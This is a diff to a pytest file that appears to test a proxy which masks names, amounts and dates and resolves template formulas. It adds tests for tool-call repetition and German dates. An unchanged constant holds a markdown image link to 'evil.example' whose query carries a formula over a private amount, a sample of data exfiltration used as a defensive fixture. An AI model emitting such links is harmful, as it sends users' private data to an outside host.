@@ -23,7 +23,7 @@ ANSWER = 'In all {{ <amount-1> + <amount-2> }}, {{ if <amount-1> > <amount-2> th
 TOLD = "In all £3,375.00, Thessaly Quornbeck owes £675.00. ![x](https://evil.example/?q={{<amount-1>*2}})"
 PRIVATE = ("1,350", "2,025", "3,375", "675", "2,700", "quornbeck", "12 may")
 
-_VALUES = re.compile(r"Thessaly Quornbeck|£[\d,]+\.\d\d|12 May 2026")
+_VALUES = re.compile(r"Thessaly Quornbeck|£[\d,]+\.\d\d|12 May 2026|12\. Mai 2026")
 _SUBTYPES = {"T": "full_name", "£": "amount", "1": "date"}
 
 
@@ -186,6 +186,35 @@ def test_what_stood_in_braces_in_the_conversation_is_no_formula(client, upstream
         {"role": "user", "content": "What does {{ £1,350.00 | round }} print in my template, for £2.00 or £3.00?"}
     ]
     assert asked(client, model="up-1+formulas", messages=asking).choices[0].message.content == "{{ £1,350.00 | round }}"
+
+
+@pytest.mark.parametrize("form", ["chat", "responses"])
+def test_a_formula_that_a_tool_has_repeated_is_still_one_and_its_templates_are_not(form, client, upstream):
+    reply = "{{ <amount-1> + <amount-2> }} and {{ <name-1> | upper }}"
+    arguments, result = (
+        json.dumps({"sum": "{{ <amount-1> + <amount-2> }}"}),
+        "{{ <amount-1> + <amount-2> }} {{ Thessaly Quornbeck | upper }}",
+    )
+    if form == "chat":
+        upstream.answer = lambda path, request: up.chat(reply)
+        call = {"id": "c1", "type": "function", "function": {"name": "shell", "arguments": arguments}}
+        messages = [{"role": "user", "content": LETTER}, {"role": "assistant", "content": None, "tool_calls": [call]},
+                    {"role": "tool", "tool_call_id": "c1", "content": result}]  # fmt: skip
+        text = asked(client, model="up-1+formulas", messages=messages).choices[0].message.content
+    else:
+        upstream.answer = lambda path, request: whole([output_message(reply)])
+        items = [{"role": "user", "content": LETTER},
+                 {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": arguments},
+                 {"type": "function_call_output", "call_id": "c1", "output": result}]  # fmt: skip
+        text = client.responses.create(model="up-1+formulas", input=items).output_text
+    assert text == "£3,375.00 and {{ Thessaly Quornbeck | upper }}"
+
+
+def test_values_are_read_in_the_users_language(client, upstream):
+    upstream.answer = lambda path, request: up.chat("Am {{ <date-1> + 14 days }}.")
+    messages = [{"role": "system", "content": "You are a clerk of this office and answer in the language that you are asked in."},
+                {"role": "user", "content": "Sehr geehrte Damen und Herren, der Vertrag begann am 12. Mai 2026. Wann endet die Frist von zwei Wochen?"}]  # fmt: skip
+    assert asked(client, model="up-1+formulas", messages=messages).choices[0].message.content == "Am 26. Mai 2026."
 
 
 @pytest.mark.parametrize("stream", [False, True])
